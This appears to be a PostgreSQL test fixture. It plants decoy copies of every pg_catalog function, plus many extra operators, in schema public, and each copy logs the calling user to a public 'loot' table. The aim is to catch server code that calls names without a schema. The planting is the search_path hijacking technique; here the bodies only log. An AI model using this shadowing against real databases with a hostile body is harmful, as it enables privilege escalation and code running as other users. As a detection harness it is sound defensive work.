-- Whatever the server calls by a name that is not qualified, planted in public: every function of pg_catalog and every
-- operator with the same arguments, and operators that fit other pairs of types better than the server's own.
grant all on public.loot to public;

create function public.spy(what text) returns void language plpgsql set search_path = pg_catalog as $$
begin
  begin
    insert into public.loot values (current_user, what);
  exception when others then
    raise exception 'spied by %', what;
  end;
end
$$;

create temp table planted (kind text);
do $plant$
declare
  one record;
  made text;
  types constant text[] := '{smallint,int,bigint,numeric,text,varchar,name,"char",oid,regclass,xid8,json,jsonb,boolean,date,
    timestamptz,interval,bytea,text[],bigint[],int[],name[],inet,float8}';
begin
  for one in
    select p.proname, oidvectortypes(p.proargtypes) as arguments, p.proretset, format_type(p.prorettype, null) as result
    from pg_proc p where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.prorettype <> 'void'::regtype
  loop
    begin
      execute format('create function public.%I(%s) returns %s language plpgsql as %L', one.proname, one.arguments,
        case when one.proretset then 'setof ' else '' end || one.result,
        format('begin perform public.spy(%L); return%s; end', one.proname, case when one.proretset then '' else ' null' end));
      insert into planted values ('function');
    exception when others then
      null;  -- of a type that only the server's own functions may take
    end;
  end loop;
  for one in
    select o.oprname, format_type(nullif(o.oprleft, 0), null) as l, format_type(o.oprright, null) as r,
           format_type(o.oprresult, null) as result
    from pg_operator o where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprkind = 'b' and o.oprresult <> 0
    union
    select n, l, r, case when n in ('+', '-', '*', '/', '||', '->') then l when n = '->>' then 'text' else 'boolean' end
    from unnest('{=,<>,<,>,<=,>=,+,-,*,/,||,~,~~,->,->>,?,@>,&&}'::text[]) n, unnest(types) l, unnest(types) r
    where not exists (select from pg_operator o where o.oprname = n and o.oprleft = l::regtype and o.oprright = r::regtype)
  loop
    begin
      made := 'planted_' || md5(concat_ws('|', one.l, one.r, one.result));
      if to_regprocedure(format('public.%I(%s, %s)', made, one.l, one.r)) is null then
        execute format('create function public.%I(%s, %s) returns %s language plpgsql as %L', made, one.l, one.r, one.result,
                       format('begin perform public.spy(%L); return null; end',
                              'an operator of ' || one.l || ' and ' || one.r));
      end if;
      execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.%I)', one.oprname, one.l, one.r, made);
      insert into planted values ('operator');
    exception when others then
      null;
    end;
  end loop;
end
$plant$;
